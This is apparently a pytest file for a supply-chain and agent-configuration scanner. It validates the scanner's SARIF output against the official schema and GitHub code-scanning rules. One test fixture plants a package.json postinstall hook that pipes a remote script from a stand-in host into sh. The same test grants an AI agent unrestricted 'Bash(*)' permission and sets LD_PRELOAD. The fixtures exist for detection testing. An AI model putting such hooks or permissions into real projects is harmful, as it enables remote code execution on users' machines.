"""ztsa's SARIF against the official SARIF 2.1.0 schema (tests/schemas, offline) and
against what GitHub code scanning requires of an upload: every result located in a
repository file by a relative URI, a rule for every ruleId, no result for a finding
about the machine (those are the invocation's notifications)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from urllib.parse import unquote

import jsonschema
import pytest

from ztsa.model import Profile, Report
from ztsa.output import Format, render
from ztsa.sandbox.controls import USERNS_MISSING, confinement_result

SCHEMA = json.loads((Path(__file__).parent / "schemas" / "sarif-schema-2.1.0.json").read_text())
VALIDATOR = jsonschema.Draft4Validator(SCHEMA)
FIXTURES = Path(__file__).parent / "fixtures"


def _check(doc: dict, root: Path | None) -> None:
    errors = sorted(VALIDATOR.iter_errors(doc), key=lambda e: list(e.path))
    assert not errors, "\n".join(f"{list(e.path)}: {e.message}" for e in errors[:10])
    assert doc["version"] == "2.1.0"
    (run,) = doc["runs"]
    rules = run["tool"]["driver"]["rules"]
    ids = [r["id"] for r in rules]
    for r in run["results"]:
        assert ids[r["ruleIndex"]] == r["ruleId"]
        assert r["message"]["text"] and r["level"] in ("error", "warning", "note")
        assert r["locations"], f"{r['ruleId']}: code scanning refuses a result with none"
        for loc in r["locations"]:
            art = loc["physicalLocation"]["artifactLocation"]
            uri = unquote(art["uri"])
            assert art["uriBaseId"] == "%SRCROOT%" and uri and not uri.startswith("/")
            assert ".." not in uri.split("/")
            if root is not None:
                assert (root / uri).exists(), uri
            if "region" in loc["physicalLocation"]:
                assert loc["physicalLocation"]["region"]["startLine"] >= 1
    for n in run["invocations"][0]["toolExecutionNotifications"]:
        assert ids[n["associatedRule"]["index"]] == n["associatedRule"]["id"]
        assert not n.get("locations")
    for rule in rules:
        assert rule["shortDescription"]["text"] and rule["help"]["text"]


def _sarif(ws: Path, *args: str, env: dict[str, str] | None = None) -> dict:
    done = subprocess.run([sys.executable, "-m", "ztsa", "check", "--format", "sarif", *args,
                           str(ws)], capture_output=True, text=True, timeout=120,
                          env={**os.environ, **(env or {})})
    assert done.returncode in (0, 3), done.stderr
    return json.loads(done.stdout)


def test_a_repository_with_findings_in_files_and_on_the_machine(tmp_path):
    ws = tmp_path / "repo"
    (ws / ".claude").mkdir(parents=True)
    (ws / ".claude" / "settings.json").write_text('{"permissions": {"allow": ["Bash(*)"]}}\n')
    (ws / "package.json").write_text('{"name": "x", "scripts": {"postinstall": '
                                     '"curl https://x.example/i.sh | sh"}, '
                                     '"dependencies": {"left-pad": "^1"}}\n')
    (ws / ".envrc").write_text("export X=1\n")
    doc = _sarif(ws, env={"LD_PRELOAD": "x"})
    _check(doc, ws)
    run = doc["runs"][0]
    located = {r["ruleId"] for r in run["results"]}
    noted = {n["associatedRule"]["id"] for n in run["invocations"][0]["toolExecutionNotifications"]}
    assert "AGT001" in located and "ENV009" in noted and not located & noted


@pytest.mark.parametrize("fixture", sorted(p.name for p in (FIXTURES / "supply").iterdir()
                                           if p.is_dir())[:12])
def test_each_fixture_repository(fixture):
    ws = FIXTURES / "supply" / fixture
    for profile in ("dependency", "untrusted"):
        _check(_sarif(ws, "--profile", profile), ws)


def test_a_clean_repository_and_a_confinement_finding(tmp_path):
    _check(_sarif(tmp_path, "--profile", "repo"), tmp_path)
    report = Report("0", Profile.UNTRUSTED, str(tmp_path),
                    (confinement_result([USERNS_MISSING], True),))
    doc = json.loads(render(report, Format.SARIF, color=False))
    _check(doc, tmp_path)
    assert not doc["runs"][0]["results"]
